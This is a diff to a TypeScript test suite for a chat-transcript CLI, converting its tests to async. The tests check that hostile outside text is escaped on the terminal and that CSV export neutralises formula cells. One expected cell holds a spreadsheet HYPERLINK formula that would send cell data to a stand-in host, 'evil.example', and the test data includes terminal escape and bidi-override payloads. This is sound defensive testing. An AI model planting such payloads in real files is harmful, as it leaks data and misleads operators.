@@ -20,10 +20,10 @@ const FORMULA = '6281900000003';
 let dbPath = '';
 let llmNames: string[] = [];
 
-function run(argv: string[], settings: { DEFAULT_COUNTRY_CODE?: string } = {}) {
+async function run(argv: string[], settings: { DEFAULT_COUNTRY_CODE?: string } = {}) {
   const out: string[] = [];
   const err: string[] = [];
-  const code = runTranscripts(argv, { out: (t) => out.push(t), err: (t) => err.push(t), settings: { DATABASE_PATH: dbPath, HANDOFF_HOURS: 24, ...settings }, now: Date.now() });
+  const code = await runTranscripts(argv, { out: (t) => out.push(t), err: (t) => err.push(t), settings: { DATABASE_PATH: dbPath, HANDOFF_HOURS: 24, ...settings }, now: Date.now() });
   return { code, out: out.join('\n'), err: err.join('\n') };
 }
 
@@ -42,41 +42,41 @@ beforeAll(async () => {
 });
 
 describe('text from outside on the operator terminal', () => {
-  it.each([['list'], ['show', EVIL], ['search', 'line'], ['show', HUGE]])('%s prints no control character raw', (...argv) => {
-    const { code, out } = run(argv);
+  it.each([['list'], ['show', EVIL], ['search', 'line'], ['show', HUGE]])('%s prints no control character raw', async (...argv) => {
+    const { code, out } = (await run(argv));
     expect(code).toBe(0);
     expect(out).not.toMatch(RAW_CONTROL);
   });
 
-  it('shows escape sequences as visible text, and a message with line breaks on one line', () => {
-    const { out } = run(['show', EVIL]);
+  it('shows escape sequences as visible text, and a message with line breaks on one line', async () => {
+    const { out } = (await run(['show', EVIL]));
     expect(out).toContain('Evil\\x1b]0;owned\\x07');
     expect(out).toContain('line one ⏎ line two\\x1b[31m red \\x9b31m\\x7f ⏎ overwrite \\u202eevil');
     const lines = out.split('\n');
     expect(lines.filter((l) => l.includes('line two'))).toHaveLength(1);
   });
 
-  it('a 900 000-character name is kept in the database but cut when shown', () => {
-    const list = run(['list']);
+  it('a 900 000-character name is kept in the database but cut when shown', async () => {
+    const list = (await run(['list']));
     expect(list.out.length).toBeLessThan(2000);
     expect(list.out).toMatch(/N{30,}…/);
-    const show = run(['show', HUGE]);
+    const show = (await run(['show', HUGE]));
     expect(show.out.length).toBeLessThan(6000);
     expect(show.out).toContain('…');
-    const search = run(['search', 'please']);
+    const search = (await run(['search', 'please']));
     expect(search.out.length).toBeLessThan(1000);
   });
 
-  it('the LLM never gets the display name (and the message only up to MAX_INPUT_CHARS)', () => {
+  it('the LLM never gets the display name (and the message only up to MAX_INPUT_CHARS)', async () => {
     expect(llmNames.join('')).not.toContain('NNNNNNNNNN');
     expect(llmNames.join('')).toContain('…cut: the message was 50012 characters long');
   });
 });
 
 describe('the CSV export', () => {
-  it('neutralises cells a spreadsheet would run as formulas, and keeps numbers numbers', () => {
+  it('neutralises cells a spreadsheet would run as formulas, and keeps numbers numbers', async () => {
     const out = join(tempDir(), 'all.csv');
-    expect(run(['export', '--format', 'csv', '--out', out]).code).toBe(0);
+    expect((await run(['export', '--format', 'csv', '--out', out])).code).toBe(0);
     const csv = readFileSync(out, 'utf8');
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
     expect(csv).toContain(`,"'+SUM(1,2)",`);
@@ -96,33 +96,33 @@ describe('the CSV export', () => {
     ['+62 812-3456-789', '+62 812-3456-789'],
     ['(021) 555-0100', '(021) 555-0100'],
     ['hello', 'hello'],
-  ])('%j becomes %j', (input, expected) => {
+  ])('%j becomes %j', async (input, expected) => {
     expect(csvCell(input)).toBe(expected);
   });
 
-  it('JSON Lines escape what JSON.stringify leaves raw, and read back the same', () => {
-    const { out } = run(['export', '--contact', EVIL]);
+  it('JSON Lines escape what JSON.stringify leaves raw, and read back the same', async () => {
+    const { out } = (await run(['export', '--contact', EVIL]));
     expect(out).not.toMatch(RAW_CONTROL);
     expect(JSON.parse(out.split('\n')[0]!).text).toBe(HOSTILE_TEXT);
   });
 
-  it('--out to a missing folder or to a folder is a one-line error', () => {
-    const missing = run(['export', '--out', join(tempDir(), 'no', 'such', 'file.csv')]);
+  it('--out to a missing folder or to a folder is a one-line error', async () => {
+    const missing = (await run(['export', '--out', join(tempDir(), 'no', 'such', 'file.csv')]));
     expect(missing.code).toBe(1);
     expect(missing.err).toMatch(/cannot write .*file\.csv: its folder does not exist/);
     const folder = join(tempDir(), 'folder');
     mkdirSync(folder);
-    const dir = run(['export', '--out', folder]);
+    const dir = (await run(['export', '--out', folder]));
     expect(dir.code).toBe(1);
     expect(dir.err).toMatch(/cannot write .*folder: it is a folder; name a file/);
   });
 });
 
 describe('numbers as people type them', () => {
-  it('show and pause find a number typed in parts, in local form with DEFAULT_COUNTRY_CODE, or with +', () => {
-    expect(run(['show', '0819', '0000', '0001'], { DEFAULT_COUNTRY_CODE: '62' }).out).toContain(`(${EVIL})`);
-    expect(run(['show', '+62', '819-0000-0001']).out).toContain(`(${EVIL})`);
-    expect(run(['show', '0819', '0000', '0001']).err).toContain('no conversation with 081900000001');
+  it('show and pause find a number typed in parts, in local form with DEFAULT_COUNTRY_CODE, or with +', async () => {
+    expect((await run(['show', '0819', '0000', '0001'], { DEFAULT_COUNTRY_CODE: '62' })).out).toContain(`(${EVIL})`);
+    expect((await run(['show', '+62', '819-0000-0001'])).out).toContain(`(${EVIL})`);
+    expect((await run(['show', '0819', '0000', '0001'])).err).toContain('no conversation with 081900000001');
   });
 
   it.each([
@@ -132,17 +132,17 @@ describe('numbers as people type them', () => {
     ['0812 3456 789', undefined, '08123456789'],
     ['(0812) 345.678', '62', '62812345678'],
     ['120363021234567890@g.us', '62', '120363021234567890@g.us'],
-  ])('%j with country code %j reads as %j', (typed, code, expected) => {
+  ])('%j with country code %j reads as %j', async (typed, code, expected) => {
     expect(normaliseNumber(typed, code)).toBe(expected);
   });
 
-  it('the number is the leading words that look like one; the rest is the reason', () => {
+  it('the number is the leading words that look like one; the rest is the reason', async () => {
     expect(takeNumber(['0812', '3456', '789', 'angry', 'customer'], '62')).toEqual({ number: '628123456789', rest: ['angry', 'customer'] });
   });
 
-  it('--limit is validated the same way in every command', () => {
+  it('--limit is validated the same way in every command', async () => {
     for (const command of [['list'], ['search', 'hello']]) {
-      const { code, err } = run([...command, '--limit', 'abc']);
+      const { code, err } = (await run([...command, '--limit', 'abc']));
       expect(code).toBe(1);
       expect(err).toContain('--limit must be a positive whole number, not "abc"');
     }
@@ -150,7 +150,7 @@ describe('numbers as people type them', () => {
 });
 
 describe('terminal text helpers', () => {
-  it('keep tabs and newlines in visible(), cut without splitting an emoji', () => {
+  it('keep tabs and newlines in visible(), cut without splitting an emoji', async () => {
     expect(visible('a\tb\nc\u001bd')).toBe('a\tb\nc\\x1bd');
     expect(oneLine('a\r\nb')).toBe('a ⏎ b');
     expect(clip('ab😀cd', 4)).toBe('ab…');
